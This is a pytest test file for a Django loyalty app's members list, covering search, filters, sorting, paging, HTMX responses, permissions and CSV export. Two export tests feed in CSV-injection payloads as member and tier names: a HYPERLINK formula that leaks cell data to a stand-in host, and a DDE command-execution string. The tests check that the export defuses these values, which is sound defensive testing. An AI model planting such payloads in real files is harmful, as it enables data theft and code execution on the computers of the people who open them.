"""The members list: search, filters, order, pages, HTMX, the empty state and the CSV export."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.paginator import Paginator
from django.utils import timezone

from loyalty.models import AuditEvent
from loyalty.models.points import Tier
from loyalty.points.ledger import adjust_points
from loyalty.templatetags.fidela import page_range
from members.models import Member
from members.services.consents import set_consent
from members.services.enrolment import enrol_member
from tests.members.portal.conftest import LIST, buy


def names(answer) -> list[str]:
    """The member names of the list's rows, in order."""
    html = answer.content.decode()
    body = html.split("<tbody>")[1].split("</tbody>")[0]
    return [row.split("</a>")[0].split(">")[-1] for row in body.split('<th scope="row">')[1:]]


@pytest.mark.parametrize("text", ["0721 234 567", "0721-234-567", "+40 721 234 567", "721234567"])
def test_search_finds_a_member_by_phone_in_any_local_format(owner_client, ana, bob, text):
    assert names(owner_client.get(LIST, {"q": text})) == ["Ana Pop"]


@pytest.mark.parametrize("field", ["card_number", "email"])
def test_search_finds_a_member_by_card_or_email(owner_client, ana, bob, field):
    assert names(owner_client.get(LIST, {"q": getattr(bob, field)})) == ["Bob Ionescu"]


def test_search_matches_every_word_of_a_name(owner_client, ana, bob):
    assert names(owner_client.get(LIST, {"q": "ionescu bo"})) == ["Bob Ionescu"]
    assert names(owner_client.get(LIST, {"q": "ana ionescu"})) == []


def test_the_list_shows_only_the_merchants_own_members(outsider_client, ana, stranger):
    html = outsider_client.get(LIST, {"q": "0721 234 567"}).content.decode()
    assert stranger.card_number in html
    assert ana.card_number not in html


def test_filter_by_tier(owner_client, merchant_a, ana, bob):
    silver = Tier.objects.for_merchant(merchant_a).get(name="Silver")
    Member.objects.filter(pk=bob.pk).update(tier=silver)  # the engine's nightly decision

    assert names(owner_client.get(LIST, {"tier": silver.pk})) == ["Bob Ionescu"]


def test_filter_by_last_purchase(owner_client, merchant_a, shop_a, ana, bob):
    carol = enrol_member(merchant=merchant_a, email="carol@example.com", first_name="Carol")
    buy(ana, shop_a, "10.00", days_ago=10)
    buy(bob, shop_a, "10.00", days_ago=200)

    assert names(owner_client.get(LIST, {"last_purchase": "30"})) == ["Ana Pop"]
    assert names(owner_client.get(LIST, {"last_purchase": "365", "sort": "name"})) == [
        "Bob Ionescu",
        "Ana Pop",
    ]
    assert names(owner_client.get(LIST, {"last_purchase": "never"})) == [carol.display_name]


def test_filter_by_balance_range(owner_client, owner_a, ana, bob):
    adjust_points(member=ana, points=300, reason="test", actor=owner_a)
    adjust_points(member=bob, points=50, reason="test", actor=owner_a)

    assert names(owner_client.get(LIST, {"balance_min": "100"})) == ["Ana Pop"]
    assert names(owner_client.get(LIST, {"balance_max": "100"})) == ["Bob Ionescu"]
    assert names(owner_client.get(LIST, {"balance_min": "40", "balance_max": "60"})) == [
        "Bob Ionescu"
    ]


def test_filter_by_joined_since_uses_the_merchants_day(owner_client, merchant_a, ana):
    old = enrol_member(
        merchant=merchant_a,
        email="old@example.com",
        first_name="Old",
        joined_at=timezone.now() - timedelta(days=40),
    )
    since = (timezone.now() - timedelta(days=5)).astimezone(merchant_a.tzinfo).date()

    assert names(owner_client.get(LIST, {"joined_since": since.isoformat()})) == ["Ana Pop"]
    assert old.display_name in names(owner_client.get(LIST))


def test_filter_by_source_and_consents(owner_client, merchant_a, ana, bob):
    enrol_member(merchant=merchant_a, email="web@example.com", first_name="Web", source="join")
    set_consent(member=ana, channel="email", granted=True, source="pos", wording="Offers")
    set_consent(member=bob, channel="sms", granted=True, source="pos", wording="Offers")

    assert names(owner_client.get(LIST, {"source": "join"})) == ["Web"]
    assert names(owner_client.get(LIST, {"email_marketing": "yes"})) == ["Ana Pop"]
    assert names(owner_client.get(LIST, {"sms_marketing": "yes"})) == ["Bob Ionescu"]
    assert "Ana Pop" in names(owner_client.get(LIST, {"sms_marketing": "no"}))


def test_a_filter_typed_wrong_is_shown_and_the_others_still_apply(owner_client, ana, bob):
    answer = owner_client.get(LIST, {"balance_min": "lots", "q": "bob"})

    assert names(answer) == ["Bob Ionescu"]
    assert "Enter a whole number." in answer.content.decode()


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("-balance", ["Ana Pop", "Carol Zed", "Bob Ionescu"]),
        ("balance", ["Bob Ionescu", "Carol Zed", "Ana Pop"]),
        ("-spend", ["Carol Zed", "Ana Pop", "Bob Ionescu"]),
        ("name", ["Bob Ionescu", "Ana Pop", "Carol Zed"]),
        ("-name", ["Carol Zed", "Ana Pop", "Bob Ionescu"]),
        ("-joined", ["Carol Zed", "Bob Ionescu", "Ana Pop"]),
        ("joined", ["Ana Pop", "Bob Ionescu", "Carol Zed"]),
        ("-last_purchase", ["Carol Zed", "Ana Pop", "Bob Ionescu"]),
    ],
)
def test_sort(owner_client, merchant_a, shop_a, owner_a, ana, bob, sort, expected):
    carol = enrol_member(
        merchant=merchant_a, email="c@example.com", first_name="Carol", last_name="Zed"
    )
    buy(ana, shop_a, "20.00", days_ago=3)
    buy(carol, shop_a, "80.00", days_ago=1)
    adjust_points(member=ana, points=500, reason="test", actor=owner_a)

    assert names(owner_client.get(LIST, {"sort": sort})) == expected


def test_fifty_members_a_page(owner_client, merchant_a):
    for n in range(53):
        enrol_member(merchant=merchant_a, email=f"m{n:02d}@example.com", first_name=f"M{n:02d}")

    first = owner_client.get(LIST, {"sort": "name"})
    second = owner_client.get(LIST, {"sort": "name", "page": "2"})

    assert len(names(first)) == 50 and names(second) == ["M50", "M51", "M52"]
    assert "53 members" in first.content.decode()
    assert 'href="?sort=name&amp;page=2"' in first.content.decode()
    pager = first.content.decode().split('class="pagination"')[1].split("</nav>")[0]
    assert 'aria-current="page"' in pager and "Page 1 of 2" in pager


def test_the_pager_numbers_the_pages_around_this_one_and_the_ends():
    pages = Paginator(range(40 * 50), 50)

    assert page_range(pages.page(1)) == [1, 2, 3, None, 40]
    assert page_range(pages.page(20)) == [1, None, 18, 19, 20, 21, 22, None, 40]
    assert page_range(pages.page(40)) == [1, None, 38, 39, 40]


def test_an_htmx_request_gets_only_the_results(owner_client, ana):
    answer = owner_client.get(LIST, {"q": "ana"}, headers={"HX-Request": "true"})

    html = answer.content.decode()
    assert html.lstrip().startswith('<div id="results"')
    assert "<html" not in html and 'name="q"' not in html
    assert names(answer) == ["Ana Pop"]


def test_the_page_works_without_javascript(owner_client, ana):
    html = owner_client.get(LIST).content.decode()
    assert 'method="get" action="/portal/members/"' in html
    assert 'hx-push-url="true"' in html
    assert f'href="/portal/members/{ana.pk}/"' in html


def test_an_empty_merchant_is_told_how_to_add_the_first_member(owner_client, merchant_a):
    html = owner_client.get(LIST).content.decode()

    assert "No members yet" in html
    assert 'href="/pos/"' in html
    assert f'href="/m/{merchant_a.slug}/join"' in html
    assert 'href="/portal/members/import/"' in html
    assert "Export CSV" not in html


def test_a_search_without_match_is_not_the_empty_state(owner_client, ana):
    html = owner_client.get(LIST, {"q": "nobody"}).content.decode()
    assert "No member matches" in html and "No members yet" not in html


def test_export_csv_has_the_filtered_members_with_their_figures(
    owner_client, merchant_a, shop_a, ana, bob
):
    set_consent(member=ana, channel="email", granted=True, source="pos", wording="Offers")
    buy(ana, shop_a, "25.00")

    answer = owner_client.get(LIST, {"q": "ana", "export": "csv"})

    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="members-aroma-' in answer["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert len(rows) == 1
    row = rows[0]
    ana.refresh_from_db()
    assert row["card_number"] == ana.card_number
    assert (row["first_name"], row["last_name"]) == ("Ana", "Pop")
    assert (row["email"], row["phone"]) == ("ana.pop@example.com", "+40721234567")
    assert row["tier"] == "Bronze"
    assert int(row["points_balance"]) == ana.points_balance
    assert row["lifetime_spend"] == "25.00" and row["purchases"] == "1"
    assert row["joined_at"].startswith(
        ana.joined_at.astimezone(merchant_a.tzinfo).date().isoformat()
    )
    assert (row["email_marketing"], row["sms_marketing"]) == ("yes", "no")
    assert (
        AuditEvent.objects.for_merchant(merchant_a)
        .filter(action="members.members.exported")
        .exists()
    )


def test_export_defuses_spreadsheet_formulas(owner_client, merchant_a):
    enrol_member(merchant=merchant_a, email="x@example.com", first_name="=HYPERLINK(1)")

    content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()

    assert "'=HYPERLINK(1)" in content


def test_export_defuses_formulas_in_every_text_column(owner_client, merchant_a, owner_a):
    from loyalty.points.program import save_tier

    bronze = merchant_a.tiers.order_by("threshold").first()
    save_tier(
        merchant=merchant_a,
        actor=owner_a,
        tier=bronze,
        name='=HYPERLINK("http://e.x/?"&A2,"Gold")',  # a tier name has 40 characters at most
        threshold=bronze.threshold,
        multiplier=bronze.multiplier,
    )
    enrol_member(
        merchant=merchant_a,
        email="x@example.com",
        first_name="+cmd|' /C calc'!A0",
        last_name="-2+3",
    )

    content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(content)))

    assert row["tier"] == """'=HYPERLINK("http://e.x/?"&A2,"Gold")"""
    assert row["first_name"] == "'+cmd|' /C calc'!A0"
    assert row["last_name"] == "'-2+3"
    for name, value in row.items():
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), name


def test_export_keeps_a_phone_number_as_it_is(owner_client, merchant_a):
    enrol_member(merchant=merchant_a, phone="+40721234567")

    content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()

    assert next(csv.DictReader(io.StringIO(content)))["phone"] == "+40721234567"


def test_the_export_link_keeps_the_filters(owner_client, ana):
    html = owner_client.get(LIST, {"q": "ana", "sort": "name"}).content.decode()
    assert 'href="?q=ana&amp;sort=name&amp;export=csv"' in html


def test_the_list_costs_the_same_queries_for_3_or_60_members(
    owner_client, merchant_a, shop_a, django_assert_max_num_queries
):
    def count_queries() -> int:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as context:
            assert owner_client.get(LIST, {"sort": "-balance"}).status_code == 200
        return len(context)

    for n in range(3):
        enrol_member(merchant=merchant_a, email=f"few{n}@example.com", shop=shop_a)
    owner_client.get(LIST)  # warm the session
    few = count_queries()
    for n in range(57):
        enrol_member(merchant=merchant_a, email=f"many{n}@example.com", shop=shop_a)

    with django_assert_max_num_queries(10):
        owner_client.get(LIST, {"sort": "-balance", "tier": "", "q": ""})
    assert count_queries() == few


def test_cashier_gets_403(cashier_client, ana):
    assert cashier_client.get(LIST).status_code == 403
    assert cashier_client.get(LIST, {"export": "csv"}).status_code == 403


def test_manager_sees_the_list(manager_client, ana):
    assert names(manager_client.get(LIST)) == ["Ana Pop"]


# --- Sorting by the column headers -----------------------------------------------------------


def header(html: str, label: str) -> str:
    """The <th> of the table's header whose text starts with `label`."""
    head = html.split("<thead>")[1].split("</thead>")[0]
    return next(cell for cell in head.split("<th ")[1:] if f">{label}<" in cell)


@pytest.fixture
def three(merchant_a, shop_a, owner_a, ana, bob):
    """Ana with 500 points, Bob with none, Carol who spent the most."""
    carol = enrol_member(
        merchant=merchant_a, email="c@example.com", first_name="Carol", last_name="Zed"
    )
    buy(ana, shop_a, "20.00", days_ago=3)
    buy(carol, shop_a, "80.00", days_ago=1)
    adjust_points(member=ana, points=500, reason="test", actor=owner_a)
    return carol


def test_a_header_sorts_by_its_column_and_a_second_click_reverses(owner_client, three):
    html = owner_client.get(LIST).content.decode()
    balance = header(html, "Balance")
    assert 'href="?sort=-balance"' in balance and "aria-sort" not in balance

    html = owner_client.get(LIST, {"sort": "-balance"}).content.decode()
    balance = header(html, "Balance")
    assert names(owner_client.get(LIST, {"sort": "-balance"})) == [
        "Ana Pop",
        "Carol Zed",
        "Bob Ionescu",
    ]
    assert 'aria-sort="descending"' in balance and "▼" in balance
    assert 'href="?sort=balance"' in balance  # the next click reverses

    html = owner_client.get(LIST, {"sort": "balance"}).content.decode()
    assert 'aria-sort="ascending"' in header(html, "Balance") and "▲" in header(html, "Balance")
    assert 'href="?sort=-balance"' in header(html, "Balance")
    assert names(owner_client.get(LIST, {"sort": "balance"})) == [
        "Bob Ionescu",
        "Carol Zed",
        "Ana Pop",
    ]


def test_only_the_sorted_header_carries_aria_sort(owner_client, three):
    html = owner_client.get(LIST, {"sort": "name"}).content.decode()
    head = html.split("<thead>")[1].split("</thead>")[0]

    assert head.count("aria-sort=") == 1
    assert 'aria-sort="ascending"' in header(html, "Member")
    assert 'href="?sort=-name"' in header(html, "Member")
    assert "href" not in header(html, "Card")  # not every column sorts


def test_the_default_order_is_marked_on_joined(owner_client, three):
    html = owner_client.get(LIST).content.decode()

    assert 'aria-sort="descending"' in header(html, "Joined")
    assert 'href="?sort=joined"' in header(html, "Joined")


@pytest.mark.parametrize("sort", ["bogus", "-", "--balance", "pk"])
def test_an_unknown_sort_falls_back_to_newest_members_first(owner_client, three, sort):
    answer = owner_client.get(LIST, {"sort": sort})

    assert answer.status_code == 200
    assert names(answer) == ["Carol Zed", "Bob Ionescu", "Ana Pop"]
    assert 'aria-sort="descending"' in header(answer.content.decode(), "Joined")


def test_header_links_keep_the_filters_and_start_again_at_page_one(owner_client, three):
    html = owner_client.get(LIST, {"q": "o", "tier": "", "page": "1", "sort": "name"}).content
    balance = header(html.decode(), "Balance")

    assert 'href="?q=o&amp;tier=&amp;sort=-balance"' in balance
    assert 'hx-get="?q=o&amp;tier=&amp;sort=-balance"' in balance
    assert 'hx-target="#results"' in balance and 'hx-push-url="true"' in balance


def test_pages_and_filters_keep_the_order_of_the_header(owner_client, merchant_a):
    for n in range(53):
        enrol_member(merchant=merchant_a, email=f"m{n:02d}@example.com", first_name=f"M{n:02d}")

    html = owner_client.get(LIST, {"sort": "-name"}).content.decode()

    assert 'href="?sort=-name&amp;page=2"' in html
    assert '<option value="-name" selected>' in html  # the form's Order sends it with a filter
    assert names(owner_client.get(LIST, {"sort": "-name", "page": "2"})) == ["M02", "M01", "M00"]


def test_a_header_click_by_htmx_redraws_the_forms_order_too(owner_client, three):
    by_header = owner_client.get(
        LIST, {"sort": "-spend"}, headers={"HX-Request": "true", "HX-Trigger": "sort-spend"}
    ).content.decode()
    by_form = owner_client.get(
        LIST, {"sort": "-spend"}, headers={"HX-Request": "true", "HX-Trigger": "member-filters"}
    ).content.decode()

    assert 'id="sort-choice" class="sort-choice" hx-swap-oob="true"' in by_header
    assert '<option value="-spend" selected>' in by_header
    assert "hx-swap-oob" not in by_form  # the field being changed keeps its focus


def test_the_table_scrolls_in_a_labelled_focusable_region(owner_client, three):
    html = owner_client.get(LIST).content.decode()

    assert '<div class="table-wrap" role="region" aria-label="Members" tabindex="0">' in html
